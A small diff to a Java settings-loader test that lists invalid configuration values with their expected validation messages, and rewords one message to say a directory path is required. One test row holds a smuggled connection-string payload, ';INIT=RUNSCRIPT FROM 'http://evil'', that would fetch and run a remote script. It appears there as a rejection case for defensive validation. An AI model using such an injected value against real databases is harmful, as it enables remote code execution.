@@ -131,7 +131,7 @@ class SettingsLoaderTest {
                 "RUN_SILENCE | 1w | a time like",
                 "RUN_SILENCE | 1.5h | a time like",
                 "LEDGER | /x;INIT=RUNSCRIPT FROM 'http://evil' | without a semicolon",
-                "LEDGER | / | a file's path",
+                "LEDGER | / | a directory's path",
                 "LEDGER | jdbc:mysql://h/d | jdbc:postgresql://HOST/DATABASE",
                 "DATA_DIR | /x;INIT=1 | without a semicolon",
                 "LOG_LEVEL | trace | error, warn, info or debug",
